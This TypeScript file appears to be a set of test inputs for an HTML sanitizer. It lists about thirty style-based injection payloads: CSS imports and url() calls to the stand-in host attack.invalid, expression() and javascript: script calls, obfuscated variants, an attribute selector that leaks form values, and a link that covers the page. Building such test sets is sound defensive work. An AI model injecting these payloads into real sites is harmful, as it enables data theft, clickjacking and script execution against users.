import type { Attack } from './attack.ts'

/** Styles: they run script in old browsers; in all browsers they send requests and cover the page. */
export const STYLES: readonly Attack[] = [
  { name: 'style with an import', html: '<style>@import "https://attack.invalid/x.css";</style>' },
  {
    name: 'style with an import of data',
    html: '<style>@import url(data:text/css,p{background:url(https://attack.invalid/)})</style>',
  },
  { name: 'style with an escaped import', html: '<style>@\\69mport "https://attack.invalid/x.css"</style>' },
  { name: 'style without an end', html: '<style>*{background:url(https://attack.invalid/)}' },
  {
    name: 'style that reads a field',
    html: '<style>input[value^=a]{background:url(https://attack.invalid/a)}</style>',
  },
  {
    name: 'style with a font',
    html: '<style>@font-face{font-family:x;src:url(https://attack.invalid/f)}p{font-family:x}</style><p>x</p>',
  },
  { name: 'style with a binding', html: '<style>body{-moz-binding:url("https://attack.invalid/x.xml#x")}</style>' },
  { name: 'style with a behaviour', html: '<style>p{behavior:url(https://attack.invalid/x.htc)}</style>' },
  { name: 'style of another language', html: '<style type="text/javascript">pwned()</style>' },
  { name: 'style attribute with an address', html: '<p style="background:url(https://attack.invalid/p)">x</p>' },
  { name: 'style attribute with a script address', html: '<p style="background-image:url(javascript:pwned())">x</p>' },
  { name: 'style attribute with an expression', html: '<p style="width:expression(pwned())">x</p>' },
  { name: 'style attribute with a broken expression', html: '<p style="width:exp/**/ression(pwned())">x</p>' },
  { name: 'style attribute with an escaped expression', html: '<p style="width:\\65xpression(pwned())">x</p>' },
  { name: 'style attribute in full-width letters', html: '<p style="width:ｅｘｐｒｅｓｓｉｏｎ(pwned())">x</p>' },
  { name: 'style attribute with a binding', html: "<p style='-moz-binding:url(https://attack.invalid/x#x)'>x</p>" },
  {
    name: 'style attribute with references',
    html: '<p style="background:&#117;&#114;&#108;(https://attack.invalid/p)">x</p>',
  },
  {
    name: 'style attribute with an image set',
    html: '<p style="background:image-set(\'https://attack.invalid/p\' 1x)">x</p>',
  },
  { name: 'style attribute with a pointer', html: '<p style="cursor:url(https://attack.invalid/c),auto">x</p>' },
  {
    name: 'style attribute with a list sign',
    html: '<ul><li style="list-style:url(https://attack.invalid/l)">x</li></ul>',
  },
  {
    name: 'style attribute with a variable',
    html: '<p style="--x:url(https://attack.invalid/v);background:var(--x)">x</p>',
  },
  {
    name: 'style attribute that covers the page',
    html: '<a href="https://attack.invalid/" style="position:fixed;inset:0;z-index:9999">x</a>',
  },
  {
    name: 'style attribute on a link, closing itself',
    html: '<a style="}*{background:url(https://attack.invalid/)" href="https://good.example/">x</a>',
  },
  { name: 'class and language of the site', html: '<p class="button dialog" lang="ar" dir="rtl" hidden>x</p>' },
  { name: 'style sheet by link', html: '<link rel="stylesheet" href="https://attack.invalid/x.css">' },
  { name: 'style sheet of script', html: '<link rel="stylesheet" href="javascript:pwned()">' },
  {
    name: 'style sheet by meta',
    html: '<meta http-equiv="Link" content="<https://attack.invalid/x.css>; rel=stylesheet">',
  },
  { name: 'layer', html: '<layer src="https://attack.invalid/x"></layer><ilayer src="javascript:pwned()"></ilayer>' },
  {
    name: 'old page paints',
    html: '<table bgcolor=red background="https://attack.invalid/t"><td background="https://attack.invalid/d">x</table>',
  },
  {
    name: 'old fonts',
    html: '<font color="red" size="7" face="x" style="background:url(https://attack.invalid/)">x</font>',
  },
]
